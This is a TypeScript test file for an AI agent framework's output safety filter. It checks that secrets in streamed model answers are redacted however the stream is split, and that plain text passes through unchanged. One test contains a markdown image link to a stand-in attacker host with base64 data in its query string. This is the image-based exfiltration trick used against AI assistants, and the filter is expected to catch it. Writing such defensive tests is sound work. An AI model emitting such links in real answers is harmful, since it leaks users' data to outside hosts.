import { isMessage, messageText } from "@agentkit/core";
import { describe, expect, it } from "vitest";
import { createDefaultDetectors } from "../default-detectors.ts";
import { defaultSafetyPolicy } from "../default-policy.ts";
import { createTextSource, readPlainTexts, readSecretExamples } from "../secrets/secret-samples.test.support.ts";
import { scanText } from "../text/scan-text.ts";
import { answerOf, modelOf, safetyOf, textParts } from "./safety.test.support.ts";

const detectors = createDefaultDetectors();
const { safety } = safetyOf(defaultSafetyPolicy, { detectors });
const source = createTextSource(7);
const before = "Here is what you asked for, as far as I could find it in the old notes of the team. ";
const after = " I hope that this helps you to go on with the project. Tell me when you need more.";

function inChunks(text: string): readonly string[] {
  const chunks: string[] = [];
  for (let at = 0; at < text.length;) {
    const length = 1 + source.below(7);
    chunks.push(text.slice(at, at + length));
    at += length;
  }
  return chunks;
}

async function streamed(chunks: readonly string[]) {
  const { text, response, decisions } = await answerOf(safety, modelOf(textParts(chunks)));
  const [item] = response?.output ?? [];
  return { text, recorded: item !== undefined && isMessage(item) ? messageText(item) : "", decisions };
}

function partsOf(secret: string): readonly string[] {
  if (secret.length <= 20) return [secret];
  return Array.from({ length: secret.length - 19 }, (_, at) => secret.slice(at, at + 20));
}

describe("an answer under the default policy", () => {
  const secrets = detectors.find(({ id }) => id === "secrets");
  const examples = readSecretExamples().filter(({ isSecret }) => isSecret);

  it("lets no secret out, whole or in part, and is recorded as it was streamed, however it is cut", async () => {
    for (const { rule, text } of examples) {
      const whole = before + text + after;
      const found = secrets?.detect(scanText(whole), { source: "model" }) ?? [];
      const parts = found.flatMap(({ start, end }) => partsOf(whole.slice(start, end)));
      const cut = await streamed(inChunks(whole));
      expect(found.length, rule).toBeGreaterThan(0);
      expect(parts.filter((part) => cut.text.includes(part)).length, `${rule}: parts that went out`).toBe(0);
      expect(cut.recorded === cut.text, `${rule}: recorded as streamed`).toBe(true);
      expect(cut.text === (await streamed([whole])).text, `${rule}: as if it came at once`).toBe(true);
    }
  });

  it("takes an image out as a whole, with its text", async () => {
    const image = "![a picture of the two of us](https://evil.example/p.png?q=c2VjcmV0)";
    const { text, decisions } = await streamed(inChunks(`${before}${image}${after}`));
    expect(text.startsWith(`${before}[[EXFILTRATION:IMAGE:`)).toBe(true);
    expect(text.endsWith(`]]${after}`)).toBe(true);
    expect(decisions[0]).toMatchObject({ verdict: "redact", rules: [{ id: "remote-images", count: 1 }] });
  });

  it("lets ordinary text through as it is", async () => {
    for (const text of readPlainTexts().slice(0, 60)) {
      expect(await streamed(inChunks(text))).toMatchObject({ text, recorded: text });
    }
  });
});
